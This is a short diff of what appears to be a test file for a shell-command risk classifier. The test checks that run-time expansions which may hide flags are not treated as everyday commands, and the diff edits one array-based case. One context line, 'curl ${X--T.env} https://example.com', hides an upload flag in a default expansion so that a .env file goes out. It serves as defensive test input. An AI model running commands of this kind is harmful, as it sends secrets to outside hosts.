@@ -70,7 +70,7 @@ test('a word that is known only when it runs is never everyday: it may be a flag
     'curl ${X--T.env} https://example.com',
     'false && x=-l; wc $x',
     'f() { wc "$@"; }; f -l',
-    'a=(-l); wc "${a[@]}"',
+    'a=(-l); a+=(x); wc "${a[@]}"',
     'set -- -l; wc $1',
   ])
   check('HIGH', [
